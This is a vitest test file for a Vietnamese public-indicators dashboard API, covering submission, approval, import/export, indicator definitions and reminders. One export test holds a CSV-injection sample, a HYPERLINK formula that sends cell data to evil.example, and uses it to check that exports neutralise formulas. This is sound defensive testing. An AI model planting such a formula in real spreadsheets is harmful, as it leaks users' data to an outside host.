import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import * as XLSX from 'xlsx';
import type { Dashboard } from '../../../shared/contracts/indicators.js';
import { buildTestApp, type TestApp } from '../../../../tests/support/app.js';
import { as, enrolTotp, signIn, testPassword, userWithRoles, type Browser } from '../../../../tests/support/sessions.js';
import { multipartFile, pdfBytes } from '../../../../tests/support/uploads.js';
import { auditEvents } from '../../db/platform-schema.js';
import { systemContext } from '../../lib/context.js';
import { notifications } from '../notifications/schema.js';
import { exportIndicatorDataOf } from './personal-data.js';
import { remindMissingReports } from './reminders.js';
import { indicatorObservations, indicators } from './schema.js';
import { editLoaded } from '../../../../tests/support/versions.js';

let t: TestApp;
let officer: Browser & { userId: string };
let wardOfficer: Browser;
let manager: Browser;
let officerManager: Browser;
const ids = new Map<string, string>();

beforeAll(async () => {
  t = await buildTestApp();
  const skhcnOfficer = await userWithRoles(t, 'can-bo@skhcn.gov.vn', [{ role: 'unit_officer', unitCode: 'SKHCN' }]);
  officer = { ...skhcnOfficer.browser, userId: skhcnOfficer.user.id };
  wardOfficer = (await userWithRoles(t, 'can-bo@phuong.gov.vn', [{ role: 'unit_officer', unitCode: '25747' }])).browser;
  manager = (await userWithRoles(t, 'quan-ly@skhcn.gov.vn', [{ role: 'programme_manager', unitCode: 'SKHCN', includesSubtree: true }]))
    .browser;
  await enrolTotp(t, manager);
  // Both an officer of SKHCN and a programme manager: may enter values, may never approve their own.
  officerManager = (
    await userWithRoles(t, 'kiem-nhiem@skhcn.gov.vn', [
      { role: 'unit_officer', unitCode: 'SKHCN' },
      { role: 'programme_manager', unitCode: 'SKHCN', includesSubtree: true },
    ])
  ).browser;
  await enrolTotp(t, officerManager);
  for (const row of await t.testDb.database.db.select({ id: indicators.id, code: indicators.code }).from(indicators))
    ids.set(row.code, row.id);
});
afterAll(() => t.close());

const dashboard = async (): Promise<Dashboard> => (await t.app.inject({ method: 'GET', url: '/api/indicators/dashboard' })).json();
const indicatorOf = (d: Dashboard, code: string) => d.indicators.find((i) => i.code === code)!;

describe('GET /api/indicators/dashboard', () => {
  it('shows every public indicator with its status computed from the approved values, grouped in frameworks', async () => {
    const res = await t.app.inject({ method: 'GET', url: '/api/indicators/dashboard' });
    expect(res.statusCode).toBe(200);
    expect(res.headers.etag).toBeTruthy();
    const d: Dashboard = res.json();
    expect(d.frameworks.map((f) => f.code)).toEqual(['CTR54-2030', 'HST-2025', 'NQ57-QG-2030', 'TP-2030']);
    expect(d.indicators).toHaveLength(20);
    const statusOf = (code: string) => indicatorOf(d, code).assessment.status;
    // Demo values (illustrative) chosen to show every status; the arithmetic is in docs/indicator-status-method.md.
    // A yearly floor: 3.1 % in 2025 reaches "at least 3 %" for that year; 2030 is not over, so on track.
    expect(statusOf('NS-KHCN')).toBe('on_track');
    expect(indicatorOf(d, 'NS-KHCN').assessment).toMatchObject({ method: 'annual_floor', expected: 3, projected: null });
    expect(statusOf('NSLD')).toBe('off_track');
    expect(statusOf('KTS-GRDP')).toBe('on_track');
    expect(statusOf('RD-GRDP')).toBe('at_risk');
    expect(statusOf('TFP')).toBe('off_track');
    expect(statusOf('NL-KHCN')).toBe('no_data');
    const digital = indicatorOf(d, 'KTS-GRDP');
    expect(digital.targets).toEqual([{ year: 2030, min: 30, max: 40, qualifier: null, isIllustrative: false }]);
    expect(digital.baseline).toEqual({ value: 22, year: 2024, qualifier: null, isIllustrative: false });
    expect(digital.series).toEqual([expect.objectContaining({ period: '2025', value: 25, isIllustrative: false })]);
    // A share is never projected past 100 %: 22 → 25 in one year would be 40 % by 2030, inside the bound.
    expect(digital.assessment).toMatchObject({ method: 'share', projected: 40, isProjectedToMeet: true });
    expect(indicatorOf(d, 'NL-KHCN').baseline).toEqual({ value: 21000, year: 2025, qualifier: 'more_than', isIllustrative: false });
    expect(indicatorOf(d, 'TCKHCN-QT').targets[0]).toMatchObject({ min: 5, qualifier: 'at_least' });
  });

  it('answers 304 to a caller who has the current version', async () => {
    const first = await t.app.inject({ method: 'GET', url: '/api/indicators/dashboard' });
    const again = await t.app.inject({
      method: 'GET',
      url: '/api/indicators/dashboard',
      headers: { 'if-none-match': String(first.headers.etag) },
    });
    expect(again.statusCode).toBe(304);
  });

  it('flags a missing quarterly report: 5G coverage has no value for 2025-Q3 (due 25 September 2025)', async () => {
    expect(indicatorOf(await dashboard(), 'PHU-5G').missingPeriods).toEqual(['2025-Q3']);
  });
});

describe('GET /api/indicators/public/:code', () => {
  it('shows one public indicator, and 404 with the code for an unknown one', async () => {
    const ok = await t.app.inject({ method: 'GET', url: '/api/indicators/public/PHU-5G' });
    expect(ok.statusCode).toBe(200);
    expect(ok.json().frequency).toBe('quarter');
    const missing = await t.app.inject({ method: 'GET', url: '/api/indicators/public/KHONG-CO' });
    expect(missing.statusCode).toBe(404);
    expect(missing.json().error.message).toEqual({ vi: "Chỉ tiêu 'KHONG-CO' không tồn tại", en: "Indicator 'KHONG-CO' not found" });
  });
});

describe('POST /api/indicators/:id/observations', () => {
  const url = (code: string) => `/api/indicators/${ids.get(code)}/observations`;

  it('refuses an anonymous caller with 401', async () => {
    const res = await as(t.app, null)({ method: 'POST', url: url('RD-GRDP'), payload: { period: '2026', value: 1.2 } });
    expect(res.statusCode).toBe(401);
  });

  it('refuses a period written the wrong way for the frequency with 400 and says how to write it', async () => {
    const res = await as(t.app, officer)({ method: 'POST', url: url('PHU-5G'), payload: { period: '2025', value: 71 } });
    expect(res.statusCode).toBe(400);
    expect(res.json().error).toMatchObject({
      code: 'VALIDATION',
      message: {
        vi: "Kỳ báo cáo '2025' không đúng dạng cho chỉ tiêu PHU-5G; viết như 2026-Q1",
        en: "Reporting period '2025' is not written the way indicator PHU-5G needs; write it like 2026-Q1",
      },
    });
  });

  it('refuses a period that has not started', async () => {
    const res = await as(t.app, officer)({ method: 'POST', url: url('PHU-5G'), payload: { period: '2026-Q3', value: 71 } });
    expect(res.statusCode).toBe(400);
    expect(res.json().error.message.en).toBe('Reporting period 2026-Q3 has not started yet');
  });

  it('refuses an officer of another unit with 403, and an unknown indicator with 404', async () => {
    const other = await as(t.app, wardOfficer)({ method: 'POST', url: url('PHU-5G'), payload: { period: '2025-Q3', value: 67 } });
    expect(other.statusCode).toBe(403);
    const unknown = await as(
      t.app,
      officer,
    )({ method: 'POST', url: '/api/indicators/00000000-0000-4000-8000-000000000001/observations', payload: { period: '2025', value: 1 } });
    expect(unknown.statusCode).toBe(404);
  });

  it('takes the value from an officer of the responsible unit, awaiting review, with its audit row; a second one for the period waits (409)', async () => {
    const res = await as(
      t.app,
      officer,
    )({ method: 'POST', url: url('PHU-5G'), payload: { period: '2025-Q3', value: 67, sourceNote: 'Báo cáo của các nhà mạng' } });
    expect(res.statusCode).toBe(201);
    const body = res.json();
    expect(body).toMatchObject({
      period: '2025-Q3',
      periodEnd: '2025-09-30',
      revision: 1,
      value: 67,
      status: 'submitted',
      canReview: false,
    });
    const [audit] = await t.testDb.database.db
      .select()
      .from(auditEvents)
      .where(and(eq(auditEvents.entityId, body.id), eq(auditEvents.action, 'indicators.observation.submit')));
    expect(audit?.actorId).toBe(officer.userId);
    // Sent, so no longer missing; not approved, so the public series does not show it.
    const phu = indicatorOf(await dashboard(), 'PHU-5G');
    expect(phu.missingPeriods).toEqual([]);
    expect(phu.series.map((p) => p.period)).toEqual(['2025-Q1', '2025-Q2', '2025-Q4']);

    const twice = await as(t.app, officer)({ method: 'POST', url: url('PHU-5G'), payload: { period: '2025-Q3', value: 68 } });
    expect(twice.statusCode).toBe(409);
  });
});

describe('approving and returning values', () => {
  const submit = async (browser: Browser, code: string, period: string, value: number) => {
    const res = await as(
      t.app,
      browser,
    )({ method: 'POST', url: `/api/indicators/${ids.get(code)}/observations`, payload: { period, value } });
    expect(res.statusCode, res.body).toBe(201);
    return res.json().id as string;
  };

  it('refuses an officer (403) and the programme manager who entered the value (403); another manager approves it', async () => {
    const id = await submit(officerManager, 'RD-GRDP', '2026', 1.3);
    const byOfficer = await as(t.app, officer)({ method: 'POST', url: `/api/indicators/observations/${id}/approve` });
    expect(byOfficer.statusCode).toBe(403);
    const byAuthor = await as(t.app, officerManager)({ method: 'POST', url: `/api/indicators/observations/${id}/approve` });
    expect(byAuthor.statusCode).toBe(403);
    expect(byAuthor.json().error.message).toEqual({
      vi: 'Bạn không thể tự duyệt hoặc trả lại số liệu do chính mình nhập',
      en: 'You cannot approve or return a value you entered yourself',
    });

    const queue = (await as(t.app, manager)({ method: 'GET', url: '/api/indicators/work' })).json().reviewQueue as Array<{
      id: string;
      canReview: boolean;
    }>;
    expect(queue.find((o) => o.id === id)?.canReview).toBe(true);
    const approved = await as(t.app, manager)({ method: 'POST', url: `/api/indicators/observations/${id}/approve` });
    expect(approved.statusCode).toBe(200);
    expect(approved.json()).toMatchObject({ status: 'approved', reviewedBy: { displayName: 'quan-ly' } });
    const [audit] = await t.testDb.database.db
      .select()
      .from(auditEvents)
      .where(and(eq(auditEvents.entityId, id), eq(auditEvents.action, 'indicators.observation.approve')));
    expect(audit?.after).toEqual({ status: 'approved' });

    // The dashboard shows it at once: 1.3 % at the end of 2026 against the path 1 → 2 % (expected 1.33, allowance 0.1).
    const rd = indicatorOf(await dashboard(), 'RD-GRDP');
    expect(rd.series.at(-1)).toMatchObject({ period: '2026', value: 1.3, isIllustrative: false });
    expect(rd.assessment.status).toBe('at_risk');
    const again = await as(t.app, manager)({ method: 'POST', url: `/api/indicators/observations/${id}/approve` });
    expect(again.statusCode).toBe(409);
  });

  it('returns a value with a reason the officer is told; a new value for the period is revision 2 and history keeps both', async () => {
    const id = await submit(officer, 'TCKHCN-QT', '2026', 3);
    const noReason = await as(t.app, manager)({ method: 'POST', url: `/api/indicators/observations/${id}/return`, payload: {} });
    expect(noReason.statusCode).toBe(400);
    const returned = await as(
      t.app,
      manager,
    )({ method: 'POST', url: `/api/indicators/observations/${id}/return`, payload: { note: 'Thiếu danh sách tổ chức kèm theo' } });
    expect(returned.statusCode).toBe(200);
    expect(returned.json()).toMatchObject({ status: 'returned', reviewNote: 'Thiếu danh sách tổ chức kèm theo' });
    const told = await t.testDb.database.db.select().from(notifications).where(eq(notifications.userId, officer.userId));
    expect(told.map((n) => n.titleVi)).toContain('Số liệu chỉ tiêu TCKHCN-QT kỳ 2026 bị trả lại');

    await submit(officer, 'TCKHCN-QT', '2026', 2);
    const history = await as(t.app, officer)({ method: 'GET', url: `/api/indicators/${ids.get('TCKHCN-QT')}/observations` });
    expect(history.statusCode).toBe(200);
    expect(
      history
        .json()
        .items.filter((o: { period: string }) => o.period === '2026')
        .map((o: { revision: number; status: string; value: number }) => [o.revision, o.status, o.value]),
    ).toEqual([
      [2, 'submitted', 2],
      [1, 'returned', 3],
    ]);
    const foreign = await as(t.app, wardOfficer)({ method: 'GET', url: `/api/indicators/${ids.get('TCKHCN-QT')}/observations` });
    expect(foreign.statusCode).toBe(403);

    // "Download my data" lists the values the officer entered.
    const mine = await exportIndicatorDataOf(systemContext(t.testDb.database.db, t.clock), officer.userId);
    expect(mine.indicatorValues.filter((v) => v.indicatorCode === 'TCKHCN-QT').map((v) => [v.revision, v.status, v.enteredByMe])).toEqual([
      [1, 'returned', true],
      [2, 'submitted', true],
    ]);
  });
});

describe('import and export', () => {
  const upload = (browser: Browser, fileName: string, bytes: Buffer) =>
    as(t.app, browser)({ method: 'POST', url: '/api/indicators/import', ...multipartFile(fileName, bytes) });
  const count = async () => (await t.testDb.database.db.select({ id: indicatorObservations.id }).from(indicatorObservations)).length;

  it('errs per row and imports nothing when any row is wrong', async () => {
    const before = await count();
    const csv = [
      'indicator_code,period,value,source_note',
      'NHOM-NC,2026,140,Danh sách nhóm nghiên cứu',
      'KHONG-CO,2026,1,',
      'PHU-5G,2026-Q5,80,',
      'DN-KHCN,2026,"1,5",',
      'NS-KHCN,2026,3.2,',
    ].join('\n');
    const res = await upload(officer, 'so-lieu.csv', Buffer.from(csv));
    expect(res.statusCode).toBe(400);
    const error = res.json().error;
    expect(error.code).toBe('VALIDATION');
    expect(error.message.en).toMatch(/^The file has 4 wrong row\(s\); nothing was imported\. Row 3: /);
    expect(error.details.rows.map((r: { row: number; column: string }) => [r.row, r.column])).toEqual([
      [3, 'indicator_code'],
      [4, 'period'],
      [5, 'value'],
      [6, 'indicator_code'],
    ]);
    expect(error.details.rows[2].message.vi).toBe("Dòng 5: giá trị '1,5' không phải là số (dùng dấu chấm cho phần thập phân, ví dụ 2.5)");
    expect(await count()).toBe(before);
  });

  it('imports a good CSV and a good XLSX as values awaiting review', async () => {
    const csv = Buffer.from('\ufeffindicator_code,period,value,source_note\nNHOM-NC,2026,140,Danh sách nhóm nghiên cứu\n');
    const res = await upload(officer, 'so-lieu.csv', csv);
    expect(res.statusCode, res.body).toBe(201);
    expect(res.json().imported).toBe(1);

    const sheet = XLSX.utils.aoa_to_sheet([
      ['indicator_code', 'period', 'value', 'source_note'],
      ['DN-KHCN', '2026', 150, 'Sở KH-CN'],
      ['NL-KHCN', '2026', 21500, ''],
    ]);
    const book = XLSX.utils.book_new();
    XLSX.utils.book_append_sheet(book, sheet, 'values');
    // Named .csv, read as the workbook it is.
    const xlsx = await upload(officer, 'so-lieu.csv', Buffer.from(XLSX.write(book, { type: 'buffer', bookType: 'xlsx' }) as Uint8Array));
    expect(xlsx.statusCode, xlsx.body).toBe(201);
    expect(xlsx.json().imported).toBe(2);
    const rows = await t.testDb.database.db.select().from(indicatorObservations).where(eq(indicatorObservations.period, '2026'));
    expect(rows.filter((r) => r.status === 'submitted').length).toBeGreaterThanOrEqual(3);
  });

  it('refuses a file that is neither CSV nor XLSX by its content with 415, and text without the columns with 400', async () => {
    const pdf = await upload(officer, 'so-lieu.xlsx', pdfBytes);
    expect(pdf.statusCode).toBe(415);
    expect(pdf.json().error.message.en).toBe(
      "File type of 'so-lieu.xlsx' is not accepted (detected: application/pdf); accepted: Excel (XLSX), CSV, plain text",
    );
    const text = await upload(officer, 'so-lieu.xlsx', Buffer.from('not a workbook at all'));
    expect(text.statusCode).toBe(400);
    expect(text.json().error.message.en).toBe('The header row lacks the column(s): indicator_code, period, value');
  });

  it('exports the approved public values as XLSX (read back with SheetJS) and CSV with the import columns first', async () => {
    const res = await t.app.inject({ method: 'GET', url: '/api/indicators/export?format=xlsx' });
    expect(res.statusCode).toBe(200);
    const book = XLSX.read(res.rawPayload, { type: 'buffer' });
    const rows = XLSX.utils.sheet_to_json<Record<string, unknown>>(book.Sheets[book.SheetNames[0]!]!);
    expect(rows.find((r) => r.indicator_code === 'RD-GRDP' && r.period === '2025')).toMatchObject({ value: 1.1, is_illustrative: 'true' });
    expect(rows.find((r) => r.indicator_code === 'KTS-GRDP' && r.period === '2025')).toMatchObject({ value: 25, is_illustrative: 'false' });
    const csv = await t.app.inject({ method: 'GET', url: '/api/indicators/export?format=csv' });
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.body.split('\r\n')[0]).toBe(
      '\ufeffindicator_code,period,value,source_note,indicator_name_vi,indicator_name_en,unit,is_illustrative',
    );
  });

  it("neutralises an officer's formula in the public CSV and XLSX: the note is text, the value stays a number", async () => {
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Nguồn: Cục Thống kê")';
    const sent = await as(
      t.app,
      officer,
    )({
      method: 'POST',
      url: `/api/indicators/${ids.get('NL-KHCN')}/observations`,
      payload: { period: '2025', value: 21400, sourceNote: formula },
    });
    expect(sent.statusCode, sent.body).toBe(201);
    expect((await as(t.app, manager)({ method: 'POST', url: `/api/indicators/observations/${sent.json().id}/approve` })).statusCode).toBe(
      200,
    );

    const csv = await t.app.inject({ method: 'GET', url: '/api/indicators/export?format=csv' });
    const records = parse(csv.body, { bom: true }) as string[][];
    expect(records.find((r) => r[0] === 'NL-KHCN' && r[1] === '2025')?.slice(2, 4)).toEqual(['21400', `'${formula}`]);
    expect(records.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))).toEqual([]);

    const xlsx = await t.app.inject({ method: 'GET', url: '/api/indicators/export?format=xlsx' });
    const book = XLSX.read(xlsx.rawPayload, { type: 'buffer' });
    const rows = XLSX.utils.sheet_to_json<Record<string, unknown>>(book.Sheets[book.SheetNames[0]!]!);
    expect(rows.find((r) => r.indicator_code === 'NL-KHCN' && r.period === '2025')).toMatchObject({
      value: 21400,
      source_note: `'${formula}`,
    });

    // Edited and imported back, the note is the officer's text again, not the apostrophe.
    const back = await as(
      t.app,
      officer,
    )({
      method: 'POST',
      url: '/api/indicators/import',
      ...multipartFile(
        'sua.csv',
        Buffer.from(`indicator_code,period,value,source_note\r\nNL-KHCN,2025,21500,"'${formula.replaceAll('"', '""')}"\r\n`),
      ),
    });
    expect(back.statusCode, back.body).toBe(201);
    const [revised] = await t.testDb.database.db
      .select()
      .from(indicatorObservations)
      .where(eq(indicatorObservations.id, back.json().observationIds[0]));
    expect(revised?.sourceNote).toBe(formula);
  });
});

describe('defining indicators (programme managers)', () => {
  const definition = {
    frameworkCode: 'TP-2030',
    code: 'TTHC-NGAY',
    nameVi: 'Thời gian giải quyết thủ tục hành chính bình quân',
    nameEn: 'Average time to settle an administrative procedure',
    unitVi: 'ngày',
    unitEn: 'days',
    methodVi: null,
    methodEn: null,
    dataSourceVi: 'Trung tâm Phục vụ hành chính công',
    dataSourceEn: 'Public Administrative Service Centre',
    direction: 'lower',
    baseline: { value: 20, year: 2024, isIllustrative: true },
    targets: [{ year: 2030, min: null, max: 10, isIllustrative: true }],
    responsibleUnitCode: 'TTPVHCC',
    frequency: 'half_year',
    reportingFromYear: 2026,
    planTaskCodes: ['4354-N3-01'],
    sourceNote: null,
  };

  it('refuses an officer (403) and an unknown unit (400, naming it)', async () => {
    expect((await as(t.app, officer)({ method: 'POST', url: '/api/indicators', payload: definition })).statusCode).toBe(403);
    const res = await as(
      t.app,
      manager,
    )({ method: 'POST', url: '/api/indicators', payload: { ...definition, responsibleUnitCode: 'KHONG-CO' } });
    expect(res.statusCode).toBe(400);
    expect(res.json().error.message.en).toBe("Unit 'KHONG-CO' does not exist");
  });

  it('refuses a target whose minimum exceeds its maximum with 400', async () => {
    const res = await as(
      t.app,
      manager,
    )({ method: 'POST', url: '/api/indicators', payload: { ...definition, targets: [{ year: 2030, min: 40, max: 30 }] } });
    expect(res.statusCode).toBe(400);
    expect(res.json().error.code).toBe('VALIDATION');
  });

  it('defines a lower-is-better indicator with its audit row, shows it on the dashboard, then changes its targets (409 for the same code twice)', async () => {
    const created = await as(t.app, manager)({ method: 'POST', url: '/api/indicators', payload: definition });
    expect(created.statusCode, created.body).toBe(201);
    const { id } = created.json();
    const [audit] = await t.testDb.database.db
      .select()
      .from(auditEvents)
      .where(and(eq(auditEvents.entityId, id), eq(auditEvents.action, 'indicators.indicator.create')));
    expect(audit).toBeDefined();
    expect((await as(t.app, manager)({ method: 'POST', url: '/api/indicators', payload: definition })).statusCode).toBe(409);

    const shown = indicatorOf(await dashboard(), 'TTHC-NGAY');
    expect(shown).toMatchObject({
      direction: 'lower',
      frequency: 'half_year',
      planTaskCodes: ['4354-N3-01'],
      assessment: { status: 'no_data', threshold: 10 },
    });

    const patched = await editLoaded(as(t.app, manager), `/api/indicators/${id}`, { targets: [{ year: 2027, min: null, max: 15 }, { year: 2030, min: 8, max: 10 }], isPublic: false });
    expect(patched.statusCode, patched.body).toBe(200);
    const [update] = await t.testDb.database.db
      .select()
      .from(auditEvents)
      .where(and(eq(auditEvents.entityId, id), eq(auditEvents.action, 'indicators.indicator.update')));
    expect((update?.before as { targets: unknown[] }).targets).toEqual([
      { year: 2030, min: null, max: 10, qualifier: null, isIllustrative: true },
    ]);
    // One indicator per measure: the same quantity under another code, in another framework, is refused and the first is named.
    const twin = await as(
      t.app,
      manager,
    )({ method: 'POST', url: '/api/indicators', payload: { ...definition, frameworkCode: 'CTR54-2030', code: 'TTHC-NGAY-54' } });
    expect(twin.statusCode).toBe(409);
    expect(twin.json().error.message.en).toBe(
      "Indicator 'TTHC-NGAY' already measures 'average_time_to_settle_an_administrative_procedure_days'; add the target to it instead of creating a second indicator",
    );
    const namedTwin = await as(
      t.app,
      manager,
    )({
      method: 'POST',
      url: '/api/indicators',
      payload: { ...definition, code: 'KTS-GDP-2', nameEn: 'Another digital economy measure', measureKey: 'digital_economy_share_grdp' },
    });
    expect(namedTwin.json().error.message.en).toContain("Indicator 'KTS-GRDP' already measures 'digital_economy_share_grdp'");
    // No longer public: gone from the dashboard and from the public page.
    expect((await dashboard()).indicators.some((i) => i.code === 'TTHC-NGAY')).toBe(false);
    expect((await t.app.inject({ method: 'GET', url: '/api/indicators/public/TTHC-NGAY' })).statusCode).toBe(404);
  });
});

describe('evidence attached to a value', () => {
  const multipartBody = (fileName: string, content: string) => multipartFile(fileName, Buffer.from(content), { contentType: 'text/plain' });

  it('takes a file from an officer of the responsible unit, names it in a value, and lets only staff of that unit download it', async () => {
    const url = `/api/indicators/${ids.get('NHOM-NC')}/attachments`;
    const refused = await as(t.app, wardOfficer)({ method: 'POST', url, ...multipartBody('bao-cao.txt', 'Danh sách 140 nhóm nghiên cứu') });
    expect(refused.statusCode).toBe(403);
    const notMultipart = await as(t.app, officer)({ method: 'POST', url, payload: {} });
    expect(notMultipart.statusCode).toBe(415);

    const uploaded = await as(t.app, officer)({ method: 'POST', url, ...multipartBody('bao-cao.txt', 'Danh sách 140 nhóm nghiên cứu') });
    expect(uploaded.statusCode, uploaded.body).toBe(201);
    const attachmentId = uploaded.json().id as string;
    expect(uploaded.json()).toMatchObject({ fileName: 'bao-cao.txt', mediaType: 'text/plain' });

    // Named for another indicator, it is refused.
    const wrong = await as(
      t.app,
      officer,
    )({ method: 'POST', url: `/api/indicators/${ids.get('DN-KHCN')}/observations`, payload: { period: '2025', value: 141, attachmentId } });
    expect(wrong.statusCode).toBe(400);
    const value = await as(
      t.app,
      officer,
    )({ method: 'POST', url: `/api/indicators/${ids.get('NHOM-NC')}/observations`, payload: { period: '2025', value: 136, attachmentId } });
    expect(value.statusCode, value.body).toBe(201);
    expect(value.json().attachmentId).toBe(attachmentId);

    const own = await as(t.app, officer)({ method: 'GET', url: `/api/indicators/attachments/${attachmentId}` });
    expect(own.statusCode).toBe(200);
    expect(own.body).toBe('Danh sách 140 nhóm nghiên cứu');
    expect((await as(t.app, manager)({ method: 'GET', url: `/api/indicators/attachments/${attachmentId}` })).statusCode).toBe(200);
    expect((await as(t.app, wardOfficer)({ method: 'GET', url: `/api/indicators/attachments/${attachmentId}` })).statusCode).toBe(404);
  });
});

describe('missing reports and reminders', () => {
  it("lists an officer's indicators with the missing quarter, and reminds the unit's officers once per period", async () => {
    // A fresh quarter falls due: 2026-Q1 on 25 March 2026.
    t.clock.set('2026-03-27T01:00:00Z');
    // Sessions of three weeks ago have lapsed: sign in again.
    const fresh = await signIn(t.app, 'can-bo@skhcn.gov.vn', testPassword);
    const work = await as(t.app, fresh)({ method: 'GET', url: '/api/indicators/work' });
    expect(work.statusCode).toBe(200);
    const phu = (work.json().items as Array<{ code: string; missingPeriods: string[]; canEnter: boolean }>).find(
      (i) => i.code === 'PHU-5G',
    )!;
    expect(phu).toMatchObject({ canEnter: true, missingPeriods: ['2026-Q1'] });
    expect(
      (work.json().items as Array<{ code: string }>).every((i) =>
        ['KTS-GRDP', 'RD-GRDP', 'TCKHCN-QT', 'PHU-5G', 'NL-KHCN', 'NHOM-NC', 'DN-KHCN'].includes(i.code),
      ),
    ).toBe(true);

    const ctx = systemContext(t.testDb.database.db, t.clock);
    const first = await remindMissingReports(ctx);
    expect(first.reminded).toBeGreaterThanOrEqual(1);
    const reminders = await t.testDb.database.db.select().from(notifications).where(eq(notifications.userId, officer.userId));
    expect(reminders.map((n) => n.titleVi)).toContain('Chưa báo cáo chỉ tiêu PHU-5G kỳ 2026-Q1');
    expect(reminders.find((n) => n.titleVi.includes('PHU-5G'))?.url).toBe('/quan-ly-chi-tieu');
    const second = await remindMissingReports(ctx);
    expect(second.reminded).toBe(0);
    const [audit] = await t.testDb.database.db.select().from(auditEvents).where(eq(auditEvents.action, 'indicators.reminder.send'));
    expect(audit).toBeDefined();
  });
});
